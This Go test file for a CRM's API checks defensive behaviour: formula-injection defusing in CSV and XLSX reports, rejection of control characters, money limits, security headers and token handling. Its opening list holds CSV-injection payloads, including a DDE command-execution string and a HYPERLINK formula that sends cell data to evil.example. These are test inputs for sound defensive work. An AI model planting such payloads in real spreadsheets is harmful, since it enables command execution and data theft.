package api_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http/httptest"
	"net/url"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/crmhub/crmhub/api"
	"github.com/crmhub/crmhub/connectors/webforms"
	"github.com/crmhub/crmhub/core"
	"github.com/crmhub/crmhub/core/store"
)

// formulas are cells a spreadsheet would run (OWASP's CSV injection list).
var formulas = []string{`=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")`, "+1+1", "-2+3", "@SUM(1+1)"}

// TestReportFilesDefuseFormulas: a record's text that looks like a formula
// reaches a report's CSV (both separators) with a leading apostrophe, and
// its workbook, like an export's, as a plain text cell.
func TestReportFilesDefuseFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t)
	for _, f := range formulas {
		body, _ := json.Marshal(map[string]string{"last_name": "Иванов", "company": f})
		r := b.do(t, "POST", "/api/v1/leads", b.writer, string(body))
		require.Equal(t, 201, r.status, string(r.body))
	}
	r := b.do(t, "POST", "/api/v1/reports", b.writer, `{"name":"Компании","entity":"lead","columns":["company","last_name"],"sort":["company"]}`)
	require.Equal(t, 201, r.status, string(r.body))
	id := r.json(t)["id"].(string)

	for sep, param := range map[rune]string{',': "comma", ';': "semicolon"} {
		r := b.do(t, "GET", "/api/v1/reports/"+id+"/run?format=csv&sep="+param, b.reader, "")
		require.Equal(t, 200, r.status, string(r.body))
		rd := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.body, []byte("\ufeff"))))
		rd.Comma = sep
		recs, err := rd.ReadAll()
		require.NoError(t, err)
		var companies []string
		for _, rec := range recs[1:] {
			companies = append(companies, rec[0])
		}
		want := make([]string, len(formulas))
		for i, f := range formulas {
			want[i] = "'" + f
		}
		require.ElementsMatch(t, want, companies, param)
	}

	r = b.do(t, "GET", "/api/v1/reports/"+id+"/run?format=xlsx", b.reader, "")
	require.Equal(t, 200, r.status)
	requireTextCells(t, r.body, "Отчёт")
	r = b.do(t, "GET", "/api/v1/leads/export.xlsx", b.reader, "")
	require.Equal(t, 200, r.status)
	requireTextCells(t, r.body, "Данные")
}

// requireTextCells checks that a workbook's sheet holds every formula as
// text and no cell formula.
func requireTextCells(t *testing.T, data []byte, sheet string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	require.NoError(t, err)
	defer f.Close()
	rows, err := f.GetRows(sheet)
	require.NoError(t, err)
	seen := map[string]bool{}
	for y, row := range rows {
		for x, v := range row {
			cell, _ := excelize.CoordinatesToCellName(x+1, y+1)
			formula, err := f.GetCellFormula(sheet, cell)
			require.NoError(t, err)
			require.Empty(t, formula, "%s %s is not a formula", sheet, cell)
			seen[v] = true
		}
	}
	for _, fm := range formulas {
		require.True(t, seen[fm], "%q is in %s as the text it is", fm, sheet)
	}
}

var pathParam = regexp.MustCompile(`\{[^}]+\}`)

// TestQueryControlCharacters: a NUL, another control character or invalid
// UTF-8 in any query parameter of any route (every one the document lists,
// and any other) is a 422 control_character, as in a body field, never a
// 500 from the database.
func TestQueryControlCharacters(t *testing.T) {
	t.Parallel()
	b := setup(t)
	doc := loadDoc(t)
	n := 0
	for path, item := range doc.Paths.Map() {
		for method, op := range item.Operations() {
			names := []string{"x"}
			for _, p := range append(item.Parameters, op.Parameters...) {
				if p.Value != nil && p.Value.In == "query" {
					names = append(names, p.Value.Name)
				}
			}
			sort.Strings(names)
			target := pathParam.ReplaceAllString(path, "0190a5c0-0000-7000-8000-000000000000")
			for _, name := range names {
				for _, v := range []string{"%00", "a%00b", "%1B", "%FF"} {
					r := b.do(t, method, target+"?"+url.QueryEscape(name)+"="+v, b.admin, "")
					code := "control_character"
					if v == "%FF" {
						code = "invalid_utf8"
					}
					requireProblem(t, r, 422, "invalid", name+":"+code)
					n++
				}
			}
		}
	}
	require.Greater(t, n, 1000, "every documented parameter was tried")
	requireProblem(t, b.do(t, "GET", "/api/v1/leads?%00=x", b.reader, ""), 422, "invalid", "query:control_character")
	requireProblem(t, b.do(t, "GET", "/calendar/x.ics?q=%00", "", ""), 422, "invalid", "q:control_character")
	r := b.do(t, "GET", "/api/v1/leads?q=%D0%98%D0%B2%D0%B0%D0%BD%09", b.reader, "")
	require.Equal(t, 200, r.status, "Cyrillic and a tab are text: %s", r.body)

	// A report's own parameters, values and filters are checked in core
	// whatever brings them.
	r = b.do(t, "POST", "/api/v1/reports", b.writer, `{"name":"По компании","slug":"by-company","entity":"lead","columns":["company"],`+
		`"parameters":[{"name":"company","field":"company","operator":"contains"}]}`)
	require.Equal(t, 201, r.status, string(r.body))
	requireProblem(t, b.do(t, "GET", "/api/v1/reports/by-company/run?company=%00", b.reader, ""), 422, "invalid", "company:control_character")
	rep, err := b.store.Reports().Find(context.Background(), "by-company")
	require.NoError(t, err)
	_, err = b.store.Reports().Run(context.Background(), rep, core.ReportRun{Parameters: map[string]string{"company": "Ромашка\x00"}})
	require.Equal(t, []core.FieldError{{Field: "company", Code: "control_character", Message: "must be printable UTF-8 text"}}, core.ErrorFields(err))
	requireProblem(t, b.do(t, "POST", "/api/v1/reports", b.writer, `{"name":"x","entity":"lead","columns":["company"],`+
		`"filters":{"op":"and","conditions":[{"field":"company","operator":"equals","value":"\u0000"}]}}`), 422, "invalid",
		"filters.conditions[0].value:control_character")
	requireProblem(t, b.do(t, "POST", "/api/v1/report-schedules", b.writer, `{"name":"x","report":"by-company","recipients":["a@b.ru"],`+
		`"parameters":{"company":"\u0000"}}`), 422, "invalid", "parameters.company:control_character")
}

// sqlStateError is a driver error as the API sees one: known by its
// SQLState alone.
type sqlStateError struct{ state string }

func (e sqlStateError) Error() string    { return "ERROR: value out of range (SQLSTATE " + e.state + ")" }
func (e sqlStateError) SQLState() string { return e.state }

// TestDatabaseInputErrorsAre422: an out-of-range number or a NUL that
// reached the database untranslated is the client's 422, not a 500.
func TestDatabaseInputErrorsAre422(t *testing.T) {
	t.Parallel()
	state := "22003"
	b := setup(t, func(_ *store.Store, d *api.Deps) {
		d.OneCJob = func(context.Context, string) (any, error) { return nil, sqlStateError{state} }
	})
	r := b.do(t, "GET", "/api/v1/onec/jobs/x", b.reader, "")
	requireProblem(t, r, 422, "invalid", ":out_of_range")
	require.NotContains(t, string(r.body), "SQLSTATE")
	state = "22021"
	requireProblem(t, b.do(t, "GET", "/api/v1/onec/jobs/x", b.reader, ""), 422, "invalid", ":control_character")
	state = "XX000"
	requireProblem(t, b.do(t, "GET", "/api/v1/onec/jobs/x", b.reader, ""), 500, "internal")
}

// moneyLine is a quote line of a price and quantity without VAT.
func moneyLine(qty, price string) string {
	return `{"name":"Позиция","quantity":"` + qty + `","price":"` + price + `","vat_rate":"none"}`
}

func moneyLines(n int, qty, price string) string {
	ls := make([]string, n)
	for i := range ls {
		ls[i] = moneyLine(qty, price)
	}
	return strings.Join(ls, ",")
}

// TestMoneyLimits: the largest quantity, price, line and document total
// are stored exactly; one kopeck more is a 422 naming the field and the
// limit, never the 500 of a numeric column's overflow.
func TestMoneyLimits(t *testing.T) {
	t.Parallel()
	b := setup(t)
	check := openAPIChecker(t, b)
	field := func(data []byte, name string) string {
		t.Helper()
		var m map[string]any
		require.NoError(t, json.Unmarshal(data, &m))
		return m[name].(string)
	}
	t.Run("TheIssue", func(t *testing.T) {
		data := check("POST", "/api/v1/quotes", b.writer, `{"lines":[`+moneyLine("1000000000", "1000000.00")+`]}`, 422)
		require.Contains(t, string(data), `"field":"lines[0].amount"`)
		require.Contains(t, string(data), "1,000,000,000,000.00")
		data = check("POST", "/api/v1/quotes", b.writer, `{"lines":[`+moneyLine("1", "9999999999999.99")+`]}`, 422)
		require.Contains(t, string(data), `"field":"lines[0].price"`)
		require.NotContains(t, string(data), "negative")
	})
	t.Run("Line", func(t *testing.T) {
		data := check("POST", "/api/v1/quotes", b.writer, `{"lines":[`+moneyLine("1000000000", "1000.00")+`,`+moneyLine("1", "1000000000000.00")+`]}`, 201)
		require.Contains(t, string(data), `"price":"1000000000000.00"`)
		require.Equal(t, "2000000000000.00", field(data, "grand_total"))
		data = check("POST", "/api/v1/quotes", b.writer, `{"lines":[`+moneyLine("1", "1000000000000.01")+`]}`, 422)
		require.Contains(t, string(data), `"field":"lines[0].price"`)
		require.Contains(t, string(data), "at most 1,000,000,000,000.00")
		data = check("POST", "/api/v1/quotes", b.writer, `{"lines":[`+moneyLine("1000000000", "1000.01")+`]}`, 422)
		require.Contains(t, string(data), `"field":"lines[0].amount"`)
		data = check("POST", "/api/v1/quotes", b.writer, `{"lines":[`+moneyLine("1000000000.001", "1")+`]}`, 422)
		require.Contains(t, string(data), "1,000,000,000")
	})
	t.Run("Document", func(t *testing.T) {
		data := check("POST", "/api/v1/invoices", b.writer, `{"lines":[`+moneyLines(100, "1", "1000000000000.00")+`]}`, 201)
		require.Equal(t, "100000000000000.00", field(data, "grand_total"))
		inv := field(data, "id")
		stored := check("GET", "/api/v1/invoices/"+inv, b.reader, "", 200)
		require.Equal(t, "100000000000000.00", field(stored, "grand_total"), "stored exactly")
		require.Equal(t, "100000000000000.00", field(stored, "balance"))
		data = check("POST", "/api/v1/invoices", b.writer, `{"shipping_amount":"0.01","shipping_vat_rate":"none","lines":[`+
			moneyLines(100, "1", "1000000000000.00")+`]}`, 422)
		require.Contains(t, string(data), `"field":"grand_total"`)
		require.Contains(t, string(data), "at most 100,000,000,000,000.00")

		// Its payments: the largest one pays it; more cannot be recorded.
		check("POST", "/api/v1/invoices/"+inv+"/payments", b.writer, `{"amount":"100000000000000.00","method":"bank_transfer"}`, 201)
		require.Equal(t, "0.00", field(check("GET", "/api/v1/invoices/"+inv, b.reader, "", 200), "balance"))
		data = check("POST", "/api/v1/invoices/"+inv+"/payments", b.writer, `{"amount":"0.01","method":"bank_transfer"}`, 422)
		require.Contains(t, string(data), "would add up to more than 100,000,000,000,000.00")
		data = check("POST", "/api/v1/payments", b.writer, `{"direction":"incoming","amount":"100000000000000.01","method":"cash"}`, 422)
		require.Contains(t, string(data), `"field":"amount"`)
		require.Contains(t, string(data), "at most 100,000,000,000,000.00")
	})
	t.Run("Catalog", func(t *testing.T) {
		data := check("POST", "/api/v1/products", b.writer, `{"name":"Станок","price":"1000000000000.00"}`, 201)
		require.Equal(t, "1000000000000.00", field(data, "price"))
		product := field(data, "id")
		data = check("POST", "/api/v1/services", b.writer, `{"name":"Проект","price":"1000000000000.01"}`, 422)
		require.Contains(t, string(data), "at most 1,000,000,000,000.00")
		book := field(check("POST", "/api/v1/price-books", b.writer, `{"name":"Опт"}`, 201), "id")
		data = check("PUT", "/api/v1/price-books/"+book+"/prices", b.writer, `{"product_id":"`+product+`","price":"1000000000000.00"}`, 200)
		require.Equal(t, "1000000000000.00", field(data, "price"))
		data = check("PUT", "/api/v1/price-books/"+book+"/prices", b.writer, `{"product_id":"`+product+`","price":"1000000000000.01"}`, 422)
		require.Contains(t, string(data), `"field":"price"`)
		require.Contains(t, string(data), "at most 1,000,000,000,000.00")
		data = check("PUT", "/api/v1/price-books/"+book+"/prices", b.writer, `{"product_id":"`+product+`","price":1e30}`, 422)
		require.Contains(t, string(data), "at most 1,000,000,000,000.00")
	})
}

// TestEmptyCalendarFeed: a user with nothing planned gets an empty
// VCALENDAR, and only a write-scoped key rotates a calendar token.
func TestEmptyCalendarFeed(t *testing.T) {
	t.Parallel()
	b := setup(t)
	check := openAPIChecker(t, b)
	r := b.do(t, "GET", "/api/v1/users?sort=name", b.reader, "")
	adminID := r.json(t)["items"].([]any)[0].(map[string]any)["id"].(string)
	check("POST", "/api/v1/users/"+adminID+"/calendar-token", b.reader, "", 403)
	data := check("POST", "/api/v1/users/"+adminID+"/calendar-token", b.writer, "", 201)
	var tok struct{ URL string }
	require.NoError(t, json.Unmarshal(data, &tok))
	r = b.do(t, "GET", tok.URL, "", "")
	require.Equal(t, 200, r.status, string(r.body))
	require.Equal(t, "text/calendar; charset=utf-8", r.header.Get("Content-Type"))
	s := string(r.body)
	require.True(t, strings.HasPrefix(s, "BEGIN:VCALENDAR\r\n") && strings.HasSuffix(s, "END:VCALENDAR\r\n"), s)
	require.Contains(t, s, "\r\nVERSION:2.0\r\n")
	require.Contains(t, s, "\r\nPRODID:")
	require.NotContains(t, s, "BEGIN:VEVENT")
	require.Equal(t, "private, max-age=300", r.header.Get("Cache-Control"), "its subscriber may keep it between polls, no shared cache")
}

// TestSecurityHeaders: every answer says nosniff and no-referrer and may
// not be framed; the API's (errors and downloads included) are not
// stored; a form framed by configured sites names them instead of DENY.
func TestSecurityHeaders(t *testing.T) {
	t.Parallel()
	b := setup(t, func(st *store.Store, d *api.Deps) {
		h, err := webforms.New(webforms.Config{Forms: []core.WebForm{{Slug: "plain"},
			{Slug: "framed", FrameAncestors: []string{"https://example.ru"}}}}, st, nil)
		require.NoError(t, err)
		d.Forms = h
	})
	csp := "default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'"
	for _, tc := range []struct {
		method, path, key, body string
		status                  int
	}{
		{"GET", "/api/v1/leads", b.reader, "", 200},
		{"GET", "/api/v1/leads", "", "", 401},
		{"POST", "/api/v1/leads", b.writer, `{"last_name":""}`, 422},
		{"GET", "/api/v1/leads/export.xlsx", b.reader, "", 200},
		{"GET", "/api/v1/nope", b.reader, "", 404},
		{"GET", "/healthz", "", "", 200},
		{"GET", "/openapi.json", "", "", 200},
	} {
		r := b.do(t, tc.method, tc.path, tc.key, tc.body)
		require.Equal(t, tc.status, r.status, "%s %s: %s", tc.method, tc.path, r.body)
		require.Equal(t, "nosniff", r.header.Get("X-Content-Type-Options"), tc.path)
		require.Equal(t, "no-referrer", r.header.Get("Referrer-Policy"), tc.path)
		require.Equal(t, csp, r.header.Get("Content-Security-Policy"), tc.path)
		require.Equal(t, "DENY", r.header.Get("X-Frame-Options"), tc.path)
		require.Equal(t, "no-store", r.header.Get("Cache-Control"), tc.path)
	}
	page := func(slug string) reply {
		t.Helper()
		req := httptest.NewRequest("POST", "/forms/"+slug, strings.NewReader("name=Иван&phone=%2B79160000001"))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Accept", "text/html")
		resp, err := b.srv.App().Test(req, -1)
		require.NoError(t, err)
		defer resp.Body.Close()
		return reply{status: resp.StatusCode, header: resp.Header}
	}
	r := page("plain")
	require.Equal(t, 200, r.status)
	require.Equal(t, "text/html; charset=utf-8", r.header.Get("Content-Type"))
	require.Equal(t, csp, r.header.Get("Content-Security-Policy"))
	require.Equal(t, []string{"DENY"}, r.header.Values("X-Frame-Options"))
	r = page("framed")
	require.Equal(t, 200, r.status)
	require.Equal(t, []string{"default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors https://example.ru"},
		r.header.Values("Content-Security-Policy"))
	require.Empty(t, r.header.Values("X-Frame-Options"), "framed by the sites it names")
	require.Equal(t, "nosniff", r.header.Get("X-Content-Type-Options"))
	require.Equal(t, "no-store", r.header.Get("Cache-Control"), "a reply to a visitor is no one else's")
}

// TestMetricsToken: with metrics.token, /metrics answers its bearer only
// (401 otherwise); with metrics.addr it is served on its own listener
// and not on the API's.
func TestMetricsToken(t *testing.T) {
	t.Parallel()
	const token = "m3trics-t0ken-of-some-length"
	b := setupConfig(t, func(c *api.Config) { c.MetricsToken = token })
	for _, auth := range []string{"", "Bearer wrong", "Bearer " + token[:len(token)-1], "Basic " + token, token} {
		r := b.do(t, "GET", "/metrics", "", "", "Authorization", auth)
		requireProblem(t, r, 401, "unauthorized")
		require.Equal(t, `Bearer realm="crmhub"`, r.header.Get("WWW-Authenticate"))
	}
	r := b.do(t, "GET", "/metrics", "", "", "Authorization", "Bearer "+token)
	require.Equal(t, 200, r.status)
	require.Contains(t, string(r.body), "crmhub_http_request_duration_seconds")
	require.Equal(t, "no-store", r.header.Get("Cache-Control"))

	sep := setupConfig(t, func(c *api.Config) { c.MetricsToken, c.SeparateMetrics = token, true })
	require.Equal(t, 404, sep.do(t, "GET", "/metrics", "", "", "Authorization", "Bearer "+token).status, "not on the API's listener")
	h := sep.srv.MetricsHandler()
	for auth, want := range map[string]int{"": 401, "Bearer nope": 401, "Bearer " + token: 200} {
		rec := httptest.NewRecorder()
		req := httptest.NewRequest("GET", "/metrics", nil)
		req.Header.Set("Authorization", auth)
		h.ServeHTTP(rec, req)
		require.Equal(t, want, rec.Code, auth)
		require.Equal(t, "nosniff", rec.Header().Get("X-Content-Type-Options"))
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/other", nil))
	require.Equal(t, 404, rec.Code)
}

// TestRequireIfMatch: with api.require_if_match a PATCH, PUT or DELETE of
// a versioned record must name the version it is based on (428 without,
// "*" included); creates and the default configuration are unchanged.
func TestRequireIfMatch(t *testing.T) {
	t.Parallel()
	b := setupConfig(t, func(c *api.Config) { c.RequireIfMatch = true })
	check := openAPIChecker(t, b)
	data := check("POST", "/api/v1/leads", b.writer, `{"last_name":"Иванов","company":"ООО «Ромашка»"}`, 201)
	var lead struct{ ID string }
	require.NoError(t, json.Unmarshal(data, &lead))
	for _, h := range [][]string{nil, {"If-Match", "*"}} {
		data = check("PATCH", "/api/v1/leads/"+lead.ID, b.writer, `{"status":"hot"}`, 428, h...)
		require.Contains(t, string(data), "urn:crmhub:problem:precondition_required")
		require.Contains(t, string(data), "If-Match")
		check("DELETE", "/api/v1/leads/"+lead.ID, b.writer, "", 428, h...)
	}
	check("PATCH", "/api/v1/leads/"+lead.ID, b.writer, `{"status":"hot"}`, 412, "If-Match", `"7"`)
	check("PATCH", "/api/v1/leads/"+lead.ID, b.writer, `{"status":"hot"}`, 200, "If-Match", `"1"`)
	check("DELETE", "/api/v1/leads/"+lead.ID, b.writer, "", 204, "If-Match", `"2"`)
	check("POST", "/api/v1/webforms", b.admin, `{"slug":"contact"}`, 201)
	check("PUT", "/api/v1/webforms/contact", b.admin, `{"slug":"contact","target":"contact"}`, 428)
	check("PUT", "/api/v1/webforms/contact", b.admin, `{"slug":"contact","target":"contact"}`, 200, "If-Match", `"1"`)

	plain := setup(t)
	r := plain.do(t, "POST", "/api/v1/leads", plain.writer, `{"last_name":"Петров","company":"ИП Петров"}`)
	require.Equal(t, 201, r.status)
	id := r.json(t)["id"].(string)
	require.Equal(t, 200, plain.do(t, "PATCH", "/api/v1/leads/"+id, plain.writer, `{"status":"hot"}`).status, "last write wins by default")
}

// TestNewAPIKeyIsNotKeptForReplay: a new API key is shown once; an
// Idempotency-Key on its creation would have kept the answer, the key in
// plain text, in the database for a day to replay it. The header is not
// honoured there.
func TestNewAPIKeyIsNotKeptForReplay(t *testing.T) {
	t.Parallel()
	b := setup(t)
	r := b.do(t, "POST", "/api/v1/apikeys", b.admin, `{"name":"интеграция","scopes":["read"]}`, "Idempotency-Key", "key-1")
	require.Equal(t, 201, r.status, string(r.body))
	var k struct {
		Secret string `json:"key"`
	}
	require.NoError(t, json.Unmarshal(r.body, &k))
	require.NotEmpty(t, k.Secret)
	var stored int
	require.NoError(t, b.store.Pool().QueryRow(t.Context(), `SELECT count(*) FROM idempotency_keys WHERE position($1::bytea IN body) > 0`,
		[]byte(k.Secret)).Scan(&stored))
	require.Zero(t, stored, "the new key is stored for a replay")
}
